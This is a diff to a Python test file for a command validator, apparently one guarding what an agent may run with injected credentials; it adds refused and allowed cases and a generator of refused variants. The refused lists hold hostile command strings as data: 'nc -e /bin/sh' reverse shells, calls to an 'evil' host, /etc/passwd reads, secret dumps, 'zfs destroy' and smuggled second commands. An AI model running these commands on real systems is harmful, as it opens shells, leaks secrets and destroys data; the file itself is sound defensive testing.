@@ -7,6 +7,9 @@ Every case is judged with INJECTED as the entry's variables.
 
 from __future__ import annotations
 
+from collections.abc import Mapping
+from typing import Any
+
 INJECTED = ("JIRA_API_TOKEN", "GRAFANA_USER", "GRAFANA_PASSWORD")
 
 REFUSED: dict[str, list[str]] = {
@@ -132,6 +135,13 @@ REFUSED: dict[str, list[str]] = {
         "ping -c1 -f host",
         "dig -fbatch.txt",
         "curl -- https://example.com",
+        'curl --url https://example.com',
+        "curl --header='X: 1' https://example.com",
+        "git ls-remote 'https://example.com/r.git' '--upload-pack=id'",
+        '/usr/bin//curl https://example.com',
+        '/usr/bin/./curl https://example.com',
+        'CURL https://example.com',
+        'kubectl get pods --context="$JIRA_API_TOKEN"',
         "kubectl get -- pods",
     ],
     "program-running and config-reading options": [
@@ -189,6 +199,17 @@ REFUSED: dict[str, list[str]] = {
         "aws --endpoint-url https://evil sts get-caller-identity",
         "aws --ca-bundle /tmp/x sts get-caller-identity",
         "aws ec2 describe-instances --cli-input-json file:///tmp/x",
+        "aws eks describe-cluster --name file:///etc/passwd",
+        "aws eks describe-cluster --name fileb:///etc/passwd",
+        "aws eks describe-cluster --name FILE:///etc/passwd",
+        "aws iam get-user --user-name file://x",
+        "aws --profile file:///x sts get-caller-identity",
+        "aws --region=fileb:///x sts get-caller-identity",
+        "aws eks describe-cluster --name https://evil.example.com/x",
+        "aws ec2 describe-instances --query file:///etc/passwd",
+        "az account list --query @x",
+        "az group show -n @/etc/passwd",
+        "az account show --subscription=@/tmp/x",
         "aws ec2 describe-instances --generate-cli-skeleton output",
         "az account show --debug",
         "gcloud auth list --flags-file=/tmp/f",
@@ -197,6 +218,10 @@ REFUSED: dict[str, list[str]] = {
         "psql 'host=x sslkey=/tmp/k' -c 'select 1'",
         "psql -c '\\! id'",
         "psql -c 'drop table x'",
+        "mysqladmin --defaults-file=/tmp/x ping",
+        "mysqladmin --defaults-extra-file=/tmp/x ping",
+        "mysqladmin -h x drop db",
+        "mysqladmin ping --plugin-dir=/tmp",
         "openssl s_client -connect x:443 -engine /tmp/x.so",
         "openssl s_client -connect x:443 -proxy evil:1",
         "nc -e /bin/sh host 22",
@@ -215,6 +240,19 @@ REFUSED: dict[str, list[str]] = {
         "/usr/bin/../../tmp/curl https://example.com",
         "docker run alpine",
         "docker -H tcp://evil:2375 version",
+        'curl -sS https://example.com --next -o /tmp/y https://example.org',
+        'ssh host -t -t bash',
+        'aws --debug sts get-caller-identity',
+        'az rest --method get --url https://management.azure.com/',
+        'helm status r --show-resources',
+        'openssl s_client -connect x:443 -ign_eof',
+        'ping -c 1 -p ff host',
+        'nc -z host 22 -e /bin/sh',
+        'redis-cli -h x ping --rdb /tmp/x',
+        'sudo -k true -u root',
+        'hostname -F /tmp/name',
+        'hostname newname',
+        'date 010101012020',
     ],
     "verb smuggling": [
         "kubectl --username get delete pod x",
@@ -307,6 +345,17 @@ REFUSED: dict[str, list[str]] = {
         "kubectl create token default",
         "kubectl get --raw /api/v1/namespaces/default/secrets",
         "kubectl get pods -o yaml",
+        "kubectl get nodes,secrets -o json",
+        "kubectl get pods -o json",
+        "kubectl get deploy web -o yaml",
+        "kubectl get sa -o yaml",
+        "kubectl get cm -o=jsonpath='{.items[*].data}'",
+        "kubectl get --raw=/api/v1/secrets",
+        "kubectl get --raw /readyz secrets",
+        "kubectl get nodes -o go-template='{{.}}'",
+        "kubectl get no/n1 secret/db -o yaml",
+        "gcloud config get-value proxy/password",
+        "gcloud config get-value auth/access_token_file",
         "aws eks get-token --cluster-name ops",
         "aws sso get-role-credentials --role-name r --account-id 1 --access-token t",
         "aws lambda get-function-configuration --function-name f",
@@ -345,6 +394,10 @@ REFUSED: dict[str, list[str]] = {
         "gcloud container clusters get-credentials c",
         "gcloud config config-helper",
         "gcloud compute instances describe vm1",
+        "gcloud compute instances list --format=json",
+        "gcloud container clusters list --format=json",
+        "gcloud container clusters list --format='value(masterAuth.password)'",
+        "gcloud --format=json container clusters list",
         "gcloud sql users list -i db",
         "helm get values r",
         "helm get all r",
@@ -433,6 +486,15 @@ REFUSED: dict[str, list[str]] = {
         "touch /tmp/x",
         "tee /tmp/x",
         "cp /etc/passwd /tmp/x",
+        "date -s 2020-01-01",
+        "date --set=2020-01-01",
+        "date +%s -s x",
+        "ssh host 'date -s 2020-01-01'",
+        "zfs destroy tank",
+        "zfs snapshot tank@x",
+        "mysqladmin shutdown",
+        "echo x > /tmp/x",
+        "kubectl get nodes -o jsonpath-file=/tmp/x",
     ],
     "ssh remote command": [
         "ssh host 'hostname; touch /tmp/x'",
@@ -465,7 +527,7 @@ REFUSED: dict[str, list[str]] = {
         "ssh host 'hostname\nid'",
         "ssh host \"hostname\"';'id",
         "ssh host '\"hostname;id\"'",
-        "ssh host 'echo hi'",
+        "ssh host 'echo hi; id'",
         "ssh host",
         "ssh -p 22",
         "ssh -- host true",
@@ -475,6 +537,14 @@ REFUSED: dict[str, list[str]] = {
         "ssh host '{hostname,id}'",
         "ssh host 'true' '|' 'id'",
         "ssh host '$SHELL'",
+        "ssh -T host 'sudo -k true' x",
+        'ssh host \'curl -H "X: $Y" https://example.com\'',
+        "ssh host 'kubectl get secret db -o=jsonpath={.data}'",
+        "ssh host 'git ls-remote ext::id'",
+        "ssh host 'echo $HOME'",
+        "ssh host echo -e x",
+        "ssh host 'exit 1; id'",
+        "ssh host exit 3",
         "ssh host 'hostname\\;id'",
     ],
 }
@@ -587,4 +657,44 @@ ALLOWED_PROOFS: list[str] = [
     "uname -a",
     "true",
     "/usr/local/bin/kubectl get ns",
+    "kubectl get --raw /readyz",
+    "kubectl get --raw='/livez?verbose'",
+    "kubectl get nodes -o jsonpath='{.items[*].metadata.name}'",
+    "kubectl get ns -o name",
+    "kubectl get nodes -o json",
+    "aws ec2 describe-instances --instance-ids i-0abc1234def567890 --query 'Reservations[].Instances[].State.Name'"
+    " --output text",
+    "aws rds describe-db-instances --db-instance-identifier prod-db",
+    "aws cloudformation describe-stacks --stack-name ops",
+    "az keyvault show -n kv-ops",
+    "gcloud config get-value project",
+    "gcloud auth list --filter=status:ACTIVE --format='value(account)'",
+    "ssh host exit",
+    "ssh -q host exit 0",
+    "ssh host echo ok",
+    "ssh pve1 pveversion",
+    "ssh nas 'zfs list -H'",
+    "ssh web1 'systemctl is-active --quiet nginx'",
+    "ssh host free -m",
+    "ssh host nproc",
+    "ssh host date -u",
+    "mysqladmin ping -h db.example.com -P 3306 --connect-timeout 3",
 ]
+
+
+def generated(tools: Mapping[str, Any]) -> dict[str, list[tuple[str, str]]]:
+    """(command, tool) cases built from the specs themselves, each of which must be refused:
+    every abbreviation of every listed long option (that is not itself listed), every global value
+    flag placed before the verb without its value (so the verb would become its value), and
+    unlisted options on every verb."""
+    specs = [(name, verb, {**tool.flags, **spec.flags}) for name, tool in tools.items()
+             for verb, spec in tool.verbs.items()]
+    prefixes = [(f"{t} {' '.join(v)} {flag[:cut]}".replace("  ", " "), t)
+                for t, v, flags in specs for flag in flags if flag.startswith("--")
+                for cut in range(3, len(flag)) if flag[:cut] not in flags]
+    smuggled = [(f"{t} {flag} {' '.join(v)} delete x", t)
+                for t, v, _ in specs if v for flag, spec in tools[t].flags.items() if spec.value is not None]
+    unknown = [(f"{t} {flag} {' '.join(v)}".replace("  ", " "), t) for t, v, _ in specs
+               for flag in ("--frobnicate", "-Z", "--config=/tmp/x", "--kubeconfig", "-F")]
+    return {"abbreviated long option": prefixes, "value flag before the verb, without its value": smuggled,
+            "unlisted option": unknown}
